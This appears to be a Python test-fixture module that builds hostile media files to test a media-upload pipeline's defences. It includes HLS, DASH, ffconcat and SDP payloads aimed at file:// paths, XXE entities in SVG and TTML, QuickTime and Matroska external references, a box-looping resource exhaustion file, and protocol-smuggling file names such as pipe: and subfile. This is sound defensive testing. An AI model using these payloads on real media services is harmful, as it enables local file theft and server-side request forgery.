"""Files made to harm whoever opens them. Each reaches for a private file, or for a port of loopback."""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from media_assets_tests.sample_media import ffmpeg, file_url, video

SDP_PORT = 50412


@dataclass(frozen=True)
class Target:
    """What an attack tries to reach."""

    private: Path
    """A folder with `board.ts`, `board.mp3`, `board.mkv` and `board000.png`."""
    port: int

    @property
    def sound(self) -> Path:
        return self.private / "board.ts"


def noise_mp3(folder: Path) -> bytes:
    """Without Xing and ID3, so that it may begin anywhere."""
    path = folder / ".noise.mp3"
    options = ("-id3v2_version", "0", "-write_xing", "0")
    ffmpeg("-f", "lavfi", "-i", "anoisesrc=duration=3:amplitude=0.2:sample_rate=44100:seed=1", *options, file_url(path))
    data = path.read_bytes()
    path.unlink()
    return data


def text_mp3() -> bytes:
    """Frames of MPEG audio that are one line of text in ISO 8859-1 too."""
    return (b"\xff\xfb\x90\x64" + b"U" * 413) * 120


def hls(folder: Path, target: Target) -> bytes:
    head = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:2,\nfile://{target.sound}\n#EXT-X-ENDLIST\n#"
    return head.encode() + noise_mp3(folder)


def hls_of_the_network(folder: Path, target: Target) -> bytes:
    where = f"http://127.0.0.1:{target.port}"
    lines = (
        "#EXTM3U",
        f'#EXT-X-MAP:URI="{where}/init.mp4"',
        f'#EXT-X-KEY:METHOD=AES-128,URI="{where}/key"',
        f"#EXTINF:2,\n{where}/a.ts\n#EXT-X-ENDLIST\n#",
    )
    return "\n".join(lines).encode() + noise_mp3(folder)


def hls_behind_an_id3_tag(folder: Path, target: Target) -> bytes:
    return b"ID3\x04\0\0\0\0\0\0" + hls(folder, target)


def dash(folder: Path, target: Target) -> bytes:
    head = (
        "<?xml version='1.0' encoding='iso-8859-1'?>\n<MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static' "
        "mediaPresentationDuration='PT2S' profiles='urn:mpeg:dash:profile:isoff-main:2011'>\n<Period>"
        "<AdaptationSet mimeType='audio/mp2t' contentType='audio'>"
        f"<Representation id='1' bandwidth='1'><BaseURL>file://{target.sound}</BaseURL>"
        "<SegmentBase/></Representation></AdaptationSet></Period>\n<!--"
    )
    return head.encode() + text_mp3() + b"-->\n</MPD>\n"


def dash_behind_rubbish(folder: Path, target: Target) -> bytes:
    return b"\0" * 64 + dash(folder, target)


def concat(folder: Path, target: Target) -> bytes:
    return f"ffconcat version 1.0\nfile '{target.sound}'\n#".encode() + text_mp3()


def sdp(folder: Path, target: Target) -> bytes:
    return (
        f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 0.0.0.0\r\nt=0 0\r\nm=audio {SDP_PORT} RTP/AVP 0\r\n"
        "a=rtpmap:0 PCMU/8000\r\n"
    ).encode()


def sdp_and_sound(folder: Path, target: Target) -> bytes:
    return sdp(folder, target) + noise_mp3(folder)


def rtsp(folder: Path, target: Target) -> bytes:
    return f"[Reference]\r\nRef1=http://127.0.0.1:{target.port}/a\r\n".encode() + noise_mp3(folder)


def subtitles(folder: Path, target: Target) -> bytes:
    lines = f"[Script Info]\nScriptType: v4.00+\nAudio File: {target.sound}\nVideo File: {target.sound}\n\n[Events]\n"
    return lines.encode() + b"Dialogue: 0,0:00:00.00,0:00:02.00,,,0,0,0,,Hello\n"


def sami(folder: Path, target: Target) -> bytes:
    return f"<SAMI><BODY><SYNC Start=0><P><IMG SRC='file://{target.sound}'></SAMI>".encode()


def address(folder: Path, target: Target) -> bytes:
    return f"http://127.0.0.1:{target.port}/a.mp4\n".encode()


def mov_with_references(folder: Path, target: Target) -> bytes:
    """Its samples lie in another file, by an alias as QuickTime writes it: two folders up, and two levels down."""
    clip = video(folder / ".clip.mov", 1.0)
    data = bytearray(clip.read_bytes())
    clip.unlink()
    at = 0
    while (at := data.find(b"dref", at + 1)) > 0:
        entry = _alias(target.private / "board.mov")
        start, size = at - 4, int.from_bytes(data[at - 4 : at], "big")
        new = struct.pack(">I4sII", 16 + len(entry), b"dref", 0, 1) + entry
        for parent in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
            place = data.rfind(parent, 0, start)
            grown = int.from_bytes(data[place - 4 : place], "big") + len(new) - size
            data[place - 4 : place] = grown.to_bytes(4, "big")
        data[start : start + size] = new
        at = start + len(new)
    return bytes(data)


def _alias(path: Path) -> bytes:
    """A data reference of type `alis`, not self-contained (flags 0): offsets as in FFmpeg's reader."""
    volume, name = b"disk", path.name.encode()
    body = bytes(4) + bytes(2 + 2 + 2) + bytes([len(volume)]) + volume.ljust(27, b"\0") + bytes(12)
    body += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 3, 2) + bytes(16)
    full = str(path).encode()
    for kind, text in ((2, full),):
        body += struct.pack(">HH", kind, len(text)) + text + bytes(len(text) % 2)
    body += struct.pack(">HH", 0xFFFF, 0)
    return struct.pack(">I4sI", 12 + len(body), b"alis", 0) + body


def linked_matroska(folder: Path, target: Target) -> bytes:
    """Says in its head that another segment, which lies beside it, comes next."""
    clip = video(folder / ".clip.mkv", 1.0)
    data = clip.read_bytes()
    clip.unlink()
    # SegmentInfo (1549A966): its size is given anew, with NextUID (3EB923) and NextFilename (3E83BB) in front.
    at = data.rindex(b"\x15\x49\xa9\x66") + 4
    length = 9 - data[at].bit_length()
    size = int.from_bytes(data[at : at + length], "big") & ((1 << 7 * length) - 1)
    name = str(target.private / "board.mkv").encode()
    links = b"\x3e\xb9\x23\x90" + b"\x42" * 16 + b"\x3e\x83\xbb" + bytes([0x80 | len(name)]) + name
    new = (size + len(links) | 1 << 56).to_bytes(8, "big")
    begin = data.index(b"\x18\x53\x80\x67") + 4
    unknown = b"\x01" + b"\xff" * 7  # of the segment, which has grown
    return data[:begin] + unknown + data[begin + 8 : at] + new + links + data[at + length :]


def playlist_attached(folder: Path, target: Target) -> bytes:
    """A video with the playlist as an attached file."""
    playlist, clip = folder / ".list.m3u8", folder / ".clip.mkv"
    playlist.write_bytes(hls_of_the_network(folder, target))
    video(clip, 1.0, "-attach", playlist, "-metadata:s:t", "mimetype=application/vnd.apple.mpegurl")
    data = clip.read_bytes()
    playlist.unlink()
    clip.unlink()
    return data


def picture(folder: Path, target: Target) -> bytes:
    """Sound: its harm is the name it is given."""
    return noise_mp3(folder)


def sound_descriptions(folder: Path, target: Target) -> bytes:
    """2 MB of sample descriptions that each seem to hold all the rest."""
    moov = b"\xff\xff\xff\xffstsd" * 262_144
    return struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + struct.pack(">I4s", 8 + len(moov), b"moov") + moov


Attack = Callable[[Path, Target], bytes]
ATTACKS: tuple[tuple[Attack, tuple[str, ...]], ...] = (
    (hls, ("list.m3u8", "list.mp3", "list.mp4", "list.ts")),
    (hls_of_the_network, ("network.m3u8", "network.mp3")),
    (hls_behind_an_id3_tag, ("tagged.m3u8", "tagged.mp3")),
    (dash, ("manifest.mpd", "manifest.mp3", "manifest.mp4")),
    (dash_behind_rubbish, ("rubbish.mpd", "rubbish.mp3")),
    (concat, ("parts.ffconcat", "parts.mp3", "parts.txt")),
    (sdp, ("session.sdp", "session.mp4")),
    (sdp_and_sound, ("session-and-sound.sdp", "session-and-sound.mp4")),
    (rtsp, ("reference.asx", "reference.wma")),
    (subtitles, ("words.ass", "words.mp4")),
    (sami, ("words.smi", "words.mkv")),
    (address, ("address.mp4", "address.url")),
    (mov_with_references, ("references.mov", "references.mp4")),
    (linked_matroska, ("linked.mkv",)),
    (playlist_attached, ("attached.mkv",)),
    (
        picture,
        ("board%03d.mp3", "-i.mp3", "-f.mp3", "concat:board.mp3", "subfile,,start,0,end,9,,:x.mp3", "data:x.mp3"),
    ),
    (picture, ("board%03d.mp3", "-i.mp3", "-f.mp3", "concat:board.mp3", "subfile,,start,0,end,9,,:x.mp3")),
    (picture, ("data:x.mp3", "crypto:x.mp3", "http:x.mp3", "pipe:0.mp3", "async:cache:x.mp3")),
    (sound_descriptions, ("descriptions.mp4", "descriptions.mov")),
)


def private_files(folder: Path) -> None:
    """What is not the uploader's to hear: pure tones, which no noise is like."""
    for name in ("board.ts", "board.mp3", "board.mkv", "board.mov"):
        ffmpeg("-f", "lavfi", "-i", "sine=frequency=1000:duration=3", file_url(folder / name))
    ffmpeg("-f", "lavfi", "-i", "testsrc2=size=64x48", "-frames:v", "1", file_url(folder / "board000.png"))


def texts(target: Target) -> dict[str, str]:
    """By what reads them, texts that name the private file or the port: playlists, scripts, pages, pictures."""
    file, web = f"file://{target.sound}", f"http://127.0.0.1:{target.port}/a"
    entity = f"<!DOCTYPE a [<!ENTITY b SYSTEM '{file}'>]>"
    return {
        "pls": f"[playlist]\nFile1={file}\nNumberOfEntries=1\n",
        "m3u": f"{target.sound}\n",
        "asx": f"<asx version='3.0'><entry><ref href='{file}'/></entry></asx>\n",
        "xspf": f"<?xml version='1.0'?><playlist><trackList><track><location>{file}</location></track>",
        "smil": f"<smil><body><audio src='{web}'/></body></smil>\n",
        "ism": f"<?xml version='1.0'?><SmoothStreamingMedia><StreamIndex Url='{web}'/></SmoothStreamingMedia>\n",
        "cpl": "<?xml version='1.0'?><CompositionPlaylist xmlns='http://www.smpte-ra.org/schemas/2067-3/2016'/>\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{file}'\n",
        "concat": f"#!concat\n{file}\n",
        "nested": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nconcat:subfile,,start,0,end,9,,:{target.sound}\n#",
        "mark": f"\ufeff#EXTM3U\n#EXTINF:1,\n{file}\n#EXT-X-ENDLIST\n#",
        "lines": f"\r\n\r\n#EXTM3U\r\n#EXTINF:1,\r\n{file}\r\n#EXT-X-ENDLIST\r\n#",
        "rtsp": f"rtsptext\nrtsp://127.0.0.1:{target.port}/a\n",
        "url": f"[InternetShortcut]\nURL={web}\n",
        "avs": f'DirectShowSource("{target.sound}")\n',
        "vpy": f"import vapoursynth\nopen({str(target.sound)!r}).read()\n",
        "idx": "# VobSub index file, v7 (do not modify this line!)\nid: en\ntimestamp: 00:00:01:000, filepos: 0\n",
        "vtt": f"WEBVTT\n\n00:00.000 --> 00:01.000\n<img src={file}>\n",
        "ted": '{"captions":[{"duration":1,"content":"x","startTime":0}]}',
        "ffmetadata": ";FFMETADATA1\ntitle=x\n[STREAM]\n",
        "svg": f"<?xml version='1.0'?>{entity}<svg xmlns='http://www.w3.org/2000/svg'><image href='{web}'/>&b;</svg>",
        "ttml": f"<?xml version='1.0'?>{entity}<tt xmlns='http://www.w3.org/ns/ttml'><body><p>&b;</p></body></tt>",
    }
